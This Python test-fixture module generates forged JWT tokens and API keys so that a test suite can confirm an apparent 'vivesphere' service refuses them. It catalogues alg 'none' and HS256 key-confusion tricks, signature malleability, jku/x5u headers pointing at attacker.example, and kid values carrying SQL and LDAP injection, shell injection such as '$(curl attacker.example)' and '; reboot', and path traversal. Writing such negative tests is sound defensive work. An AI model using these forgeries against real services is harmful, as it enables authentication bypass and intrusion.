"""Forged access tokens, each a way in that was open somewhere once, built as real texts against a real signing key.

`forgeries(key)` gives them for whoever has a service, or a gateway, to try them on; `accepted(key)` gives the few that must get in, so
that a test cannot pass by refusing everything. Most are signed with the very key that the service trusts: then only the rule in
question stands between the forger and the service. The ids are those of the catalogue of cases; one id may have many spellings.

`strangers(token, public)` are those of a forger who has no key of ours, only a good token and the published key set: the good token cut,
spliced and spelt anew, and everything of `forgeries` with the good token's claims and key id over a signature of the forger's own.
"""

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from mesh.identity.api_keys import PREFIX, new_api_key
from mesh.identity.thumbprint import thumbprint

USER = "0190c6a1-0000-7000-8000-0000000000f0"
ORDER = 2**252 + 27742317777372353535851937790883648493
"""Order of Ed25519's group (RFC 8032 section 5.1)."""
OUR_OWN_SIZE = 8_192
"""The longest token that is looked at at all, in characters."""
GUESSES = ("", "secret", "changeme", "password", "vivesphere", "authentication", "https://vivesphere")
JSON = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Forged:
    """One text to be sent as the bearer token. Must be refused."""

    id: str
    """Id in the catalogue, such as "JWT-020"."""
    name: str
    token: str = field(repr=False)

    @property
    def label(self) -> str:
        """For the id of a test."""
        return f"{self.id} {self.name}"


def encode(raw: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


class Forger:
    """Makes tokens that are good but for one thing."""

    def __init__(
        self,
        key: Ed25519PrivateKey,
        roles: tuple[str, ...] = ("admin",),
        *,
        published: Ed25519PublicKey | None = None,
        claims: JSON | None = None,
    ) -> None:
        """`published`: whose key id the tokens carry, if not `key`'s. `claims`: what they say, if not something made up."""
        self.key = key
        self.point = published or key.public_key()
        self.public = self.point.public_bytes_raw()
        self.key_id = thumbprint(self.public)
        self.attacker = Ed25519PrivateKey.generate()
        now = int(time.time())
        self.now = now
        self._claims: JSON = {
            "iss": "vivesphere",
            "aud": "vivesphere",
            "sub": USER,
            "exp": now + 300,
            "nbf": now,
            "iat": now,
            "jti": "forged-1",
            "sid": "forged-session",
            "client_id": "vivesphere",
            "roles": list(roles),
            **(claims or {}),
        }

    def header(self, **changes: Any) -> JSON:
        """The one good header; `...` leaves a member out."""
        return _changed({"alg": "EdDSA", "kid": self.key_id, "typ": "at+jwt"}, changes)

    def claims(self, **changes: Any) -> JSON:
        """Good claims."""
        return _changed(self._claims, changes)

    def token(self, header: JSON | None = None, **claims: Any) -> str:
        """Signed by the real key."""
        return self.signed(_json(header or self.header()), _json(self.claims(**claims)))

    def signed(self, header: bytes, payload: bytes, key: Ed25519PrivateKey | None = None) -> str:
        """Any bytes at all, signed."""
        return self.signed_text(f"{encode(header)}.{encode(payload)}", key)

    def signed_text(self, text: str, key: Ed25519PrivateKey | None = None) -> str:
        """Segments as they are, signed."""
        return f"{text}.{encode((key or self.key).sign(text.encode()))}"

    def by_attacker(self, header: JSON) -> str:
        """Signed by a key of the forger's own."""
        return self.signed(_json(header), _json(self.claims()), self.attacker)

    def with_mac(self, algorithm: str, secret: bytes, **header: Any) -> str:
        """Signed with a shared secret."""
        text = f"{encode(_json(self.header(alg=algorithm, **header)))}.{encode(_json(self.claims()))}"
        digest = {"HS256": "sha256", "HS512": "sha512"}[algorithm]
        return f"{text}.{encode(hmac.new(secret, text.encode(), digest).digest())}"

    @property
    def jwk(self) -> JSON:
        """The forger's own public key."""
        return {"kty": "OKP", "crv": "Ed25519", "x": encode(self.attacker.public_key().public_bytes_raw())}


def _changed(members: JSON, changes: JSON) -> JSON:
    return {name: value for name, value in {**members, **changes}.items() if value is not ...}


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def accepted(key: Ed25519PrivateKey, roles: tuple[str, ...] = ("admin",)) -> Iterator[Forged]:
    """What must get in: the control cases."""
    forger = Forger(key, roles)
    yield Forged("JWT-001", "EdDSA", forger.token())
    for spelling in ("at+jwt", "AT+JWT", "application/at+jwt"):
        yield Forged("JWT-060", f"typ {spelling}", forger.token(forger.header(typ=spelling)))


def forgeries(key: Ed25519PrivateKey, roles: tuple[str, ...] = ("admin",)) -> Iterator[Forged]:
    """Everything that must be refused by a service that trusts `key` and nothing else."""
    yield from _all_families(Forger(key, roles))


def strangers(token: str, public: Ed25519PublicKey) -> Iterator[Forged]:
    """Everything that can be made of a good token and the published half of the key that signed it."""
    yield from _made_of(token)
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    forger = Forger(Ed25519PrivateKey.generate(), published=public, claims=claims)
    yield Forged("JWT-078", "good in everything but its signature", forger.token())
    yield from _all_families(forger)


def _all_families(forger: Forger) -> Iterator[Forged]:
    for family in (
        _structure,
        _json_forms,
        _algorithms,
        _other_keys,
        _signatures,
        _headers,
        _key_ids,
        _claims,
        _keys,
    ):
        yield from family(forger)


def _made_of(good: str) -> Iterator[Forged]:
    """The good token itself, in every way but the right one: its signature is real, so only strictness stands in the way."""
    head, body, signature = good.split(".")
    header, claims = (json.loads(base64.urlsafe_b64decode(f"{part}==")) for part in (head, body))
    for end in (1, 4, len(signature) - 1):
        yield Forged("JWT-078", f"cut by {end}", good[:-end])
        yield Forged("JWT-078", f"cut at the front by {end}", good[end:])
    for more in ("=", "==", ".", f".{signature}", signature, ",", " x", "%00", f", Bearer {good}"):
        yield Forged("JWT-008", f"with {more[:12]!r} behind it", f"{good}{more}")
    for before in ("=", ".", "Bearer ", "JWT "):
        yield Forged("JWT-008", f"with {before!r} before it", f"{before}{good}")
    yield Forged("JWT-008", "in quotes", f'"{good}"')
    for place, part in enumerate((head, body)):
        segments = [head, body, signature]
        for pad in ("=", "=="):
            segments[place] = part + pad
            yield Forged("JWT-008", f"part {place} padded with {pad}", ".".join(segments))
    for step in (1, 2, 3):
        spare = signature[:-1] + _ALPHABET[_ALPHABET.index(signature[-1]) + step]
        yield Forged("JWT-011", f"spare bits of the real signature, {step}", f"{head}.{body}.{spare}")
    raw = base64.urlsafe_b64decode(f"{signature}==")
    higher = int.from_bytes(raw[32:], "little") + ORDER
    yield Forged("JWT-035", "real S + L", f"{head}.{body}.{encode(raw[:32] + higher.to_bytes(32, 'little'))}")
    for bit in (0, 255, 256, 511):
        flipped = bytearray(raw)
        flipped[bit // 8] ^= 1 << bit % 8
        yield Forged("JWT-078", f"bit {bit} of the real signature", f"{head}.{body}.{encode(bytes(flipped))}")
    parts = {"protected": head, "signature": signature}
    yield Forged("JWT-005", "the real parts as JSON", _text({"payload": body, **parts}))
    yield Forged("JWT-005", "general", _text({"payload": body, "signatures": [parts]}))
    for name, changed in {
        "alg none": {**header, "alg": "none"},
        "alg HS256": {**header, "alg": "HS256"},
        "no kid": {key: value for key, value in header.items() if key != "kid"},
        "typ JWT": {**header, "typ": "JWT"},
        "members turned around": dict(reversed(header.items())),
    }.items():
        yield Forged("JWT-077", f"header: {name}", f"{encode(_json(changed))}.{body}.{signature}")
        yield Forged("JWT-077", f"header: {name}, no signature", f"{encode(_json(changed))}.{body}.")
    yield Forged("JWT-010", "header with spaces", f"{encode(json.dumps(header).encode())}.{body}.{signature}")
    for claim, value in {
        "sub": USER,
        "exp": claims["exp"] + 60,
        "roles": ["admin", "root"],
        "second_factor_time": claims["iat"],
    }.items():
        spliced = encode(_json({**claims, claim: value}))
        yield Forged("JWT-077", f"another {claim} under the real signature", f"{head}.{spliced}.{signature}")


def _structure(forger: Forger) -> Iterator[Forged]:
    good = forger.token()
    head, body, signature = good.split(".")
    for name, text in {"blank": " ", "one dot": ".", "two dots": "..", "three dots": "..."}.items():
        yield Forged("JWT-003", name, text)
    yield Forged("JWT-003", "empty", "")
    parts = {"protected": head, "signature": signature}
    yield Forged("JWT-005", "general JSON serialisation", _text({"payload": body, "signatures": [parts]}))
    yield Forged("JWT-005", "flattened JSON serialisation", _text({"payload": body, **parts}))
    yield Forged("JWT-006", "JSON with a token for a name", _text({good: 1, "payload": body, **parts}))
    yield Forged("JWT-006", "JSON around a token", f'{{"a":"{good}","payload":"{body}"}}')
    yield Forged("JWT-006", "a token before JSON", f"{good}{_text(parts)}")
    for pad in ("=", "=="):
        yield Forged("JWT-008", f"header{pad}", f"{head}{pad}.{body}.{signature}")
        yield Forged("JWT-008", f"payload{pad}", f"{head}.{body}{pad}.{signature}")
        yield Forged("JWT-008", f"signature{pad}", f"{head}.{body}.{signature}{pad}")
        yield Forged("JWT-008", f"signed payload{pad}", forger.signed_text(f"{head}.{body}{pad}"))
        yield Forged("JWT-008", f"signed header{pad}", forger.signed_text(f"{head}{pad}.{body}"))
    # Good claims that need "-" or "_" in base64url, so that the alphabets differ.
    spellings = (encode(_json(forger.claims(jti="~" * length))) for length in range(1, 60))
    standard = next(text for text in spellings if "-" in text or "_" in text).translate(_STANDARD)
    yield Forged("JWT-010", "standard alphabet", forger.signed_text(f"{head}.{standard}"))
    yield Forged("JWT-010", "white space inside", forger.signed_text(f"{head}.{body[:9]} {body[9:]}"))
    for step in (1, 2, 3):
        spare = signature[:-1] + _ALPHABET[_ALPHABET.index(signature[-1]) + step]
        yield Forged("JWT-011", f"spare bits of the signature, {step}", f"{head}.{body}.{spare}")
    raws = (_json(forger.claims(jti="j" * length)) for length in range(1, 4))
    loose = encode(next(raw for raw in raws if len(raw) % 3 == 1))
    loose = loose[:-1] + _ALPHABET[_ALPHABET.index(loose[-1]) + 1]
    yield Forged("JWT-011", "spare bits of the payload, signed", forger.signed_text(f"{head}.{loose}"))
    for size, name in ((OUR_OWN_SIZE, "just too long"), (12_000, "12 thousand"), (2**20, "a mebibyte")):
        yield Forged("JWT-018", f"padding claim, {name}", forger.token(padding="x" * size))
    yield Forged("JWT-018", "a long kid", forger.token(forger.header(kid="k" * 2**20)))
    yield Forged("JWT-078", "cut signature", good[:-4])
    yield Forged(
        "JWT-078", "signature of another token", f"{head}.{body}.{forger.token(jti='other').split('.')[2]}"
    )
    yield Forged("JWT-078", "signature twice", f"{good}.{signature}")
    yield Forged("JWT-078", "signature twice in one segment", f"{good}{signature}")
    yield Forged("JWT-078", "no signature", f"{head}.{body}.")
    yield Forged("JWT-078", "two segments", f"{head}.{body}")


_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_STANDARD = str.maketrans("-_", "+/")


def _text(value: object) -> str:
    return _json(value).decode()


def _json_forms(forger: Forger) -> Iterator[Forged]:
    header, claims = _json(forger.header()), _json(forger.claims())
    forms = {
        "a list": b"[]",
        "null": b"null",
        "a text": b'"abc"',
        "a bare word": b"abc",
        "a number": b"1",
        "nothing": b"{}",
        "byte order mark": b"\xef\xbb\xbf" + header,
        "UTF-16": header.decode().encode("utf-16"),
        "UTF-16 without mark": header.decode().encode("utf-16-le"),
        "not UTF-8": header[:-1] + b',"\xff":1}',
        "text after it": header + b"{}",
        "cut": header[:-1],
        "deep": b"[" * 3000,
    }
    for name, raw in forms.items():
        yield Forged("JWT-013", f"header: {name}", forger.signed(raw, claims))
    for name, raw in {
        "a list": b"[]",
        "null": b"null",
        "byte order mark": b"\xef\xbb\xbf" + claims,
        "UTF-16": claims.decode().encode("utf-16"),
        "NaN": claims[:-1] + b',"n":NaN}',
        "a comment": claims + b"//",
    }.items():
        yield Forged("JWT-013", f"claims: {name}", forger.signed(header, raw))
    for name, twice in {
        "alg none, then EdDSA": b'"alg":"none"',
        "kid of nobody, then ours": b'"kid":"nobody"',
        "typ twice": b'"typ":"JWT"',
        "alg twice alike": b'"alg":"EdDSA"',
    }.items():
        yield Forged("JWT-015", name, forger.signed(b"{" + twice + b"," + header[1:], claims))
    for name in ("sub", "exp", "aud", "roles", "sid"):
        value = {"sub": "admin", "roles": ["admin"], "exp": forger.now + 300}.get(name, "vivesphere")
        more = b',"' + name.encode() + b'":' + _json(value) + b"}"
        yield Forged("JWT-016", f"{name} twice", forger.signed(header, claims[:-1] + more))


def _algorithms(forger: Forger) -> Iterator[Forged]:
    claims = encode(_json(forger.claims()))

    def unsigned(algorithm: object, payload: str = claims) -> str:
        return f"{encode(_json(forger.header(alg=algorithm)))}.{payload}."

    yield Forged("JWT-020", "none, no signature", unsigned("none"))
    yield Forged("JWT-020", "none, signed all the same", forger.token(forger.header(alg="none")))
    for spelling in ("None", "NONE", "nOnE", "none ", " none", "no\u200bne", "none\u0000"):
        yield Forged("JWT-021", repr(spelling), unsigned(spelling))
        yield Forged("JWT-021", f"{spelling!r}, signed", forger.token(forger.header(alg=spelling)))
    yield Forged("JWT-023", "none, nothing signed", unsigned("none", ""))
    for algorithm in (None, 1, True, ["EdDSA"], {"a": 1}, "", ...):
        name = "missing" if algorithm is ... else _text(algorithm)
        yield Forged("JWT-025", f"alg {name}", forger.token(forger.header(alg=algorithm)))
    for spelling in ("eddsa", "EDDSA", "EdDsa", "Ed25519", "es256", "rs256"):
        yield Forged("JWT-026", spelling, forger.token(forger.header(alg=spelling)))
    point = forger.point
    pem = point.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    der = point.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": encode(forger.public)}
    for name, secret in {
        "raw point": forger.public,
        "base64url of the point": encode(forger.public).encode(),
        "JWK": _json(jwk),
        "PEM": pem,
        "PEM without its last line end": pem.rstrip(),
        "DER": der,
        "kid": forger.key_id.encode(),
    }.items():
        yield Forged("JWT-028", f"HS256 with {name}", forger.with_mac("HS256", secret))
    for guess in GUESSES:
        yield Forged("JWT-030", f"HS256 with {guess!r}", forger.with_mac("HS256", guess.encode()))
    for algorithm in (
        "PS256",
        "RS256",
        "RS384",
        "RS512",
        "ES256",
        "ES384",
        "ES256K",
        "HS256",
        "HS512",
        "dir",
    ):
        yield Forged("JWT-031", f"{algorithm} for our key", forger.token(forger.header(alg=algorithm)))
    yield Forged("JWT-031", "HS512 with the point", forger.with_mac("HS512", forger.public))


def _other_keys(forger: Forger) -> Iterator[Forged]:
    """Real signatures of other algorithms; only EdDSA is used here."""

    def text(algorithm: str, **header: Any) -> str:
        return f"{encode(_json(forger.header(alg=algorithm, **header)))}.{encode(_json(forger.claims()))}"

    curve = ec.generate_private_key(ec.SECP256R1())
    module = rsa.generate_private_key(65537, 2048)
    es, rs, ps, ed = text("ES256"), text("RS256"), text("PS256"), text("EdDSA")
    der = curve.sign(es.encode(), ec.ECDSA(hashes.SHA256()))
    r, s = decode_dss_signature(der)
    raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    pkcs1 = module.sign(rs.encode(), padding.PKCS1v15(), hashes.SHA256())
    salted = padding.PSS(padding.MGF1(hashes.SHA256()), padding.PSS.DIGEST_LENGTH)
    yield Forged("JWT-001", "ES256", f"{es}.{encode(raw)}")
    yield Forged("JWT-001", "RS256", f"{rs}.{encode(pkcs1)}")
    yield Forged("JWT-001", "PS256", f"{ps}.{encode(module.sign(ps.encode(), salted, hashes.SHA256()))}")
    yield Forged("JWT-033", "ES256 in DER", f"{es}.{encode(der)}")
    yield Forged("JWT-033", "ES256 in DER, called EdDSA", f"{ed}.{encode(der)}")
    good = forger.key.sign(ed.encode())
    for name, bad in {
        "63 bytes": good[:63],
        "65 bytes": good + b"\0",
        "66 bytes": good + b"\0\0",
        "128 bytes": good * 2,
        "a leading zero": b"\0" + good,
        "all zero": bytes(64),
        "R of zero": bytes(32) + good[32:],
        "S of zero": good[:32] + bytes(32),
    }.items():
        yield Forged("JWT-033", name, f"{ed}.{encode(bad)}")
    number = int.from_bytes(pkcs1, "big")
    size = len(pkcs1)
    for name, bad in {
        "0": bytes(size),
        "1": (1).to_bytes(size, "big"),
        "one more": (number + 1).to_bytes(size, "big"),
        "of an empty text": module.sign(b"", padding.PKCS1v15(), hashes.SHA256()),
        "by SHA-1": module.sign(rs.encode(), padding.PKCS1v15(), hashes.SHA1()),  # noqa: S303 - a forgery
        "cut": pkcs1[:-1],
        "longer": pkcs1 + b"\0",
    }.items():
        yield Forged("JWT-036", f"RS256 {name}", f"{rs}.{encode(bad)}")
        yield Forged("JWT-036", f"RS256 {name}, called EdDSA", f"{ed}.{encode(bad)}")


def _signatures(forger: Forger) -> Iterator[Forged]:
    text, _, signature = forger.token().rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    s = int.from_bytes(raw[32:], "little")
    for times in (1, 2, 8):
        higher = s + times * ORDER
        if higher < 2**256:
            bad = raw[:32] + higher.to_bytes(32, "little")
            yield Forged("JWT-035", f"S + {times} L", f"{text}.{encode(bad)}")
    flipped = bytes([raw[0] ^ 1]) + raw[1:]
    yield Forged("JWT-078", "one bit of the signature", f"{text}.{encode(flipped)}")
    header, claims = _json(forger.header()), _json(forger.claims())
    yield Forged("JWT-078", "by another key", forger.signed(header, claims, forger.attacker))
    inner = f"{encode(_json({'alg': 'none'}))}.{encode(claims)}."
    for name, algorithm, key in (
        ("dir with our public key", "dir", forger.public),
        ("for our public key", "ECDH-ES", hashlib.sha256(forger.public).digest()),
    ):
        outer = encode(_json({"alg": algorithm, "enc": "A256GCM", "cty": "JWT", "kid": forger.key_id}))
        nonce = secrets.token_bytes(12)
        sealed = AESGCM(key).encrypt(nonce, inner.encode(), outer.encode())
        five = (outer, "", encode(nonce), encode(sealed[:-16]), encode(sealed[-16:]))
        yield Forged("JWT-038", f"JWE {name}", ".".join(five))


def _headers(forger: Forger) -> Iterator[Forged]:
    own = {"jwk": forger.jwk}
    yield Forged("JWT-040", "jwk and our kid", forger.by_attacker(forger.header(**own)))
    yield Forged("JWT-040", "jwk and no kid", forger.by_attacker(forger.header(**own, kid=...)))
    its_kid = thumbprint(forger.attacker.public_key().public_bytes_raw())
    yield Forged("JWT-040", "jwk and its own kid", forger.by_attacker(forger.header(**own, kid=its_kid)))
    yield Forged("JWT-040", "jwk, signed by us", forger.token(forger.header(**own)))
    for address in ("https://attacker.example/jwks.json", "http://127.0.0.1:1/", "file:///dev/zero"):
        for signer, sign in (("by the forger", forger.by_attacker), ("by us", forger.token)):
            yield Forged("JWT-041", f"jku {address} {signer}", sign(forger.header(jku=address)))
            yield Forged("JWT-043", f"x5u {address} {signer}", sign(forger.header(x5u=address)))
    certificate = base64.b64encode(forger.public).decode()
    for name, more in {
        "x5c": {"x5c": [certificate]},
        "x5t": {"x5t": encode(hashlib.sha256(forger.public).digest()[:20])},
        "x5t#S256": {"x5t#S256": encode(hashlib.sha256(forger.public).digest())},
    }.items():
        yield Forged("JWT-043", f"{name} by the forger", forger.by_attacker(forger.header(**more)))
        yield Forged("JWT-043", f"{name} by us", forger.token(forger.header(**more)))
    for name, more in {
        "exp": {"crit": ["exp"]},
        "an address": {"crit": ["http://x"], "http://x": True},
        "empty": {"crit": []},
        "b64": {"crit": ["b64"], "b64": True},
    }.items():
        yield Forged("JWT-056", f"crit {name}", forger.token(forger.header(**more)))
    claims = _json(forger.claims())
    for name, more in {"b64": {"b64": False}, "b64 with crit": {"b64": False, "crit": ["b64"]}}.items():
        head = encode(_json(forger.header(**more)))
        raw = claims.decode()
        signature = encode(forger.key.sign(f"{head}.{raw}".encode()))
        yield Forged("JWT-058", f"{name}, encoded", forger.token(forger.header(**more)))
        yield Forged("JWT-058", f"{name}, raw", f"{head}.{raw}.{signature}")
        yield Forged("JWT-058", f"{name}, detached", f"{head}..{signature}")
    nested = encode(forger.token().encode())
    for name, more in {"JWT": {"cty": "JWT"}, "at+jwt": {"cty": "at+jwt"}, "none told": {}}.items():
        head = encode(_json(forger.header(**more)))
        yield Forged("JWT-061", f"cty {name}", forger.signed_text(f"{head}.{nested}"))
    for kind in ("JWT", "jwt", "rt+jwt", "at+jwt ", "at jwt", "text/at+jwt", "", None, 1, ["at+jwt"], ...):
        name = "missing" if kind is ... else _text(kind)
        yield Forged("JWT-060", f"typ {name}", forger.token(forger.header(typ=kind)))
    yield Forged("JWT-056", "another member", forger.token(forger.header(zip="DEF")))


def _key_ids(forger: Forger) -> Iterator[Forged]:
    for name, kid, secret in (
        ("UNION", "x' UNION SELECT '1';-- ", b"1"),
        ("OR", "k' OR '1'='1", b""),
        ("LDAP", "*)(uid=*))(|(uid=*", b""),
    ):
        yield Forged("JWT-045", name, forger.with_mac("HS256", secret, kid=kid))
        yield Forged("JWT-045", f"{name}, EdDSA", forger.by_attacker(forger.header(kid=kid)))
    yield Forged("JWT-045", "an operator", forger.by_attacker(forger.header(kid={"$ne": None})))
    for kid in ("|sleep 10", "$(curl attacker.example)", "`id`", "; reboot"):
        yield Forged("JWT-046", kid, forger.by_attacker(forger.header(kid=kid)))
    for kid in ("../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "\u0000"):
        yield Forged("JWT-046", f"file {kid!r}", forger.with_mac("HS256", b"", kid=kid))
    for number in range(3):
        kid = thumbprint(secrets.token_bytes(32))
        yield Forged("JWT-048", f"unknown kid {number + 1}", forger.by_attacker(forger.header(kid=kid)))
    yield Forged("JWT-048", "unknown kid, signed by us", forger.token(forger.header(kid="unknown")))
    for kid in (1, None, [], {}, True, ["k"], 1.5, ""):
        yield Forged("JWT-050", f"kid {_text(kid)}", forger.token(forger.header(kid=kid)))
    yield Forged("JWT-050", "no kid", forger.token(forger.header(kid=...)))
    retired = Forger(Ed25519PrivateKey.generate())
    yield Forged("JWT-051", "a key that is no longer published", retired.token())


def _claims(forger: Forger) -> Iterator[Forged]:
    now = forger.now
    for name, exp in {"a second ago": now - 1, "an hour ago": now - 3600, "0": 0, "-1": -1}.items():
        early = max(exp, now - 3600) - 300
        yield Forged("JWT-063", f"exp {name}", forger.token(exp=exp, iat=early, nbf=early))
        yield Forged("JWT-063", f"exp {name}, iat now", forger.token(exp=exp))
    yield Forged("JWT-065", "no exp", forger.token(exp=...))
    yield Forged("JWT-065", "exp null", forger.token(exp=None))
    for exp in (str(now + 300), now + 300.5, float(now + 300), True, [now + 300], {"t": now + 300}, 10**30):
        yield Forged("JWT-066", f"exp {type(exp).__name__} {_text(exp)}", forger.token(exp=exp))
    for name, exp in {"in milliseconds": (now + 300) * 1000, "in ten years": now + 315_360_000}.items():
        yield Forged("JWT-066", f"exp {name}", forger.token(exp=exp))
    yield Forged("JWT-066", "iat of long ago", forger.token(iat=1))
    yield Forged("JWT-066", "iat a text", forger.token(iat=str(now)))
    yield Forged("JWT-066", "iat in the future", forger.token(iat=now + 200, nbf=now))
    for name, nbf in {"future": now + 250, "text": str(now), "null": None, "missing": ...}.items():
        yield Forged("JWT-068", f"nbf {name}", forger.token(nbf=nbf))
    far = now + 3600
    yield Forged("JWT-068", "all in an hour", forger.token(nbf=far, iat=far, exp=far + 300))
    for iss in (
        "https://attacker.example",
        "vivesphere/",
        "vivespher",
        "vivesphere.attacker.example",
        "VIVESPHERE",
        ["vivesphere"],
        None,
        "",
        ...,
    ):
        yield Forged("JWT-070", f"iss {'missing' if iss is ... else _text(iss)}", forger.token(iss=iss))
    for aud in (
        "other",
        ...,
        [],
        None,
        "vivespher",
        "VIVESPHERE",
        ["other"],
        ["vivesphere"],
        ["vivesphere", 1],
        ["vivesphere", "other"],
        {},
        "",
    ):
        yield Forged("JWT-071", f"aud {'missing' if aud is ... else _text(aud)}", forger.token(aud=aud))
    for aud in ("vivesphere:logging", "logging", "spiffe://vivesphere/logging"):
        yield Forged("JWT-073", f"minted for {aud}", forger.token(aud=aud))
    for client in ("other", None, ...):
        yield Forged(
            "JWT-073",
            f"client {'missing' if client is ... else _text(client)}",
            forger.token(client_id=client),
        )
    for name in ("jti", "sub", "sid"):
        for value in (..., 1, None, "", " ", ["x"], "a b", "a\u0000b", "x" * 65):
            told = "missing" if value is ... else _text(value)[:9]
            yield Forged("JWT-075", f"{name} {told}", forger.token(**{name: value}))
    for more in (
        {"admin": True},
        {"scope": "*"},
        {"permissions": ["*"]},
        {"groups": ["admin"]},
        {"cnf": {"jkt": "x"}},
        {"roles": "admin"},
        {"roles": [["admin"]]},
        {"roles": {"admin": True}},
        {"roles": ["admin"] * 65},
        {"second_factor_time": True},
        {"second_factor_time": str(now)},
        {"second_factor_time": -1},
        {"password_change_required": False},
        {"password_change_required": 0},
    ):
        [(name, value)] = more.items()
        yield Forged("JWT-076", f"{name} {_text(value)[:20]}", forger.token(**more))


def _keys(forger: Forger) -> Iterator[Forged]:
    """API keys, which are bearer tokens too."""
    key = new_api_key()
    other = "0" if key[-1] != "0" else "1"
    yield Forged("JWT-100", "API key nobody made", key)
    for name, text in {
        "wrong checksum": key[:-1] + other,
        "no checksum": key[:-6],
        "longer": key + "0",
        "prefix alone": PREFIX,
        "prefix in capitals": PREFIX.upper() + key[4:],
        "no prefix": key[4:],
        "twice": key + key,
        "a refresh token": "vsr_" + encode(secrets.token_bytes(32)),
    }.items():
        yield Forged("JWT-100", f"API key: {name}", text)
    yield Forged("JWT-100", "API key in a token", forger.token(jti=key[:60]) + key)
